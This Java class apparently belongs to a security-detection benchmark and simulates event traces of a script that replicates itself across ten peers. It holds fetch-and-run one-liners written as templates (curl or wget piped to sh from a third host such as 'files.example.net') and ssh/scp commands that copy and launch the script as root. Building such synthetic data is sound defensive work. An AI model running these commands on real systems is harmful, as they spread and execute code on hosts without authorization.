package dev.rubato.bench.synthetic;

import dev.rubato.event.Address;
import dev.rubato.event.ProcessImage.Stdin;
import dev.rubato.event.ProcessKey;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;

/**
 * A script that came in over the network copies itself to one peer after another and starts itself there: over ssh and
 * scp, over ssh alone, or by making the peer fetch the body from a third host.
 *
 * <p>Assumed, as nothing is published: three of five such scripts lie where everybody may write, the others in a
 * directory of root or of programs; seven of ten third hosts are given by address, the others by name.
 */
final class ScriptedReplication {
    private static final int TARGETS = 10;
    private static final double WRITABLE_PLACES = 0.6;
    private static final double BY_ADDRESS = 0.7;
    private static final List<String> WRITABLE = List.of("/var/tmp/.cache/w.sh", "/dev/shm/w.sh", "/tmp/.x11/run.sh");
    private static final List<String> ORDINARY =
            List.of("/opt/.w/w.sh", "/root/bin/sync.sh", "/usr/local/lib/w.sh", "/home/deploy/w.sh");
    private static final List<String> FETCHES = List.of(
            "curl -s http://%s/w | sh",
            "wget -qO- %s/w.sh | bash -s",
            "cd /tmp; wget http://%s:8000/w; chmod +x w; ./w",
            "bash -c \"$(curl -fsSL http://%s/w)\"");

    private final SyntheticHost host;
    private final Means means;
    private final boolean cameIn;
    private final boolean namesItself;
    private final String file;
    private final String fetch;

    /** How the body gets there. */
    private enum Means {
        SCP("scp"),
        STREAM("ssh stream"),
        THIRD_HOST("fetched from a third host"),
        PADDED("scp, padded");

        final String text;

        Means(String text) {
            this.text = text;
        }
    }

    private ScriptedReplication(long seed, Means means, boolean cameIn, boolean namesItself) {
        host = new SyntheticHost("replicator", seed);
        this.means = means;
        this.cameIn = cameIn;
        this.namesItself = namesItself;
        this.file = host.draws.pick(host.draws.chance(WRITABLE_PLACES) ? WRITABLE : ORDINARY);
        String third =
                host.draws.chance(BY_ADDRESS) ? host.draws.publicAddress().toString() : "files.example.net";
        this.fetch = String.format(Locale.ROOT, host.draws.pick(FETCHES), third);
    }

    static List<Cell> cells() {
        List<Cell> cells = new ArrayList<>();
        for (Means means : Means.values()) {
            for (boolean cameIn : new boolean[] {true, false}) {
                for (boolean namesItself : new boolean[] {true, false}) {
                    for (int pauseSeconds : new int[] {5, 600, 4 * 3600}) {
                        cells.add(cell(means, cameIn, namesItself, pauseSeconds));
                    }
                }
            }
        }
        return cells;
    }

    private static Cell cell(Means means, boolean cameIn, boolean namesItself, int pauseSeconds) {
        String variant = means.text
                + (cameIn ? ", came in over ssh (R3)" : ", from a cron job")
                + (namesItself ? ", names itself (R4)" : "");
        return Cell.of(
                "scripted replication",
                "every " + pauseSeconds + " s",
                -1,
                variant,
                seed -> new ScriptedReplication(seed, means, cameIn, namesItself).trace(pauseSeconds));
    }

    private Trace trace(int pauseSeconds) {
        long atNs = SyntheticHost.START_NS + 4 * Times.DAY + 2 * Times.HOUR;
        long infectedNs = atNs;
        ProcessKey script = arrive(atNs);
        int body = host.draws.between(80_000, 4_000_000);
        List<Long> steps = new ArrayList<>();
        for (int i = 0; i < TARGETS; i++) {
            atNs += Math.max(Times.SECOND, host.draws.exponential((double) pauseSeconds * Times.SECOND));
            steps.add(atNs);
            int size = means == Means.PADDED ? (int) (body * (1 + host.draws.unit())) : body;
            atNs = replicate(atNs, script, Scanners.within(host, i), size);
        }
        return new Trace(
                host.events(atNs + Times.MINUTE), Truth.attack(infectedNs, steps, "replication", "incident"), 0);
    }

    /** By an ssh session from a peer that brings the body, or from cron. */
    private ProcessKey arrive(long atNs) {
        long bootNs = SyntheticHost.START_NS + Times.MINUTE;
        Place none = new Place(0, 0, Stdin.PIPE, "1001", "/system.slice/ssh.service", "/");
        if (!cameIn) {
            ProcessKey cron = host.service(bootNs, "cron.service", "/usr/sbin/cron", "-f");
            return host.start(atNs, cron, none, "/bin/bash", file);
        }
        ProcessKey daemon = host.service(bootNs, "ssh.service", "/usr/sbin/sshd", "-D");
        host.wire.listen(bootNs + Times.SECOND, daemon, Address.ANY, 22);
        host.wire.accept(atNs - 2 * Times.SECOND, Scanners.within(host, 900), 22, Times.SECOND, 4_000, 300_000);
        host.wire.accept(atNs - Times.SECOND / 2, Scanners.within(host, 900), 22, 2 * Times.SECOND, 4_000, 6_000);
        ProcessKey session = host.start(atNs - Times.SECOND / 3, daemon, "/usr/sbin/sshd", "-R");
        return host.start(atNs, session, none, "/bin/bash", file);
    }

    private long replicate(long atNs, ProcessKey script, Address target, int size) {
        String peer = "root@" + target;
        String body = namesItself ? file : "/dev/shm/." + host.draws.between(1000, 9999);
        return switch (means) {
            case SCP, PADDED -> {
                long copiedNs = ssh(atNs, script, target, size, "/usr/bin/scp", "-q", body, peer + ":" + file);
                yield ssh(copiedNs + Times.SECOND / 2, script, target, 2_500, "/usr/bin/ssh", peer, "sh " + file);
            }
            case STREAM -> ssh(atNs, script, target, size, "/usr/bin/ssh", peer, "cat > " + file + "; sh " + file);
            case THIRD_HOST -> ssh(atNs, script, target, 2_800, "/usr/bin/ssh", peer, fetch);
        };
    }

    private long ssh(long atNs, ProcessKey script, Address target, int bytesOut, String... args) {
        ProcessKey tool = host.start(atNs, script, args);
        ProcessKey carrier = args[0].endsWith("scp")
                ? host.start(
                        atNs + 5 * Times.MILLISECOND,
                        tool,
                        "/usr/bin/ssh",
                        args[args.length - 1].split(":", 2)[0],
                        "scp")
                : tool;
        long openNs = atNs + 12 * Times.MILLISECOND;
        long endNs = host.wire.exchange(
                openNs, carrier, target, 22, Times.seconds(host.draws.logNormal(1.2, 4)), bytesOut, 4_200);
        host.exit(endNs + Times.MILLISECOND, carrier);
        if (!carrier.equals(tool)) {
            host.exit(endNs + 2 * Times.MILLISECOND, tool);
        }
        return endNs;
    }
}
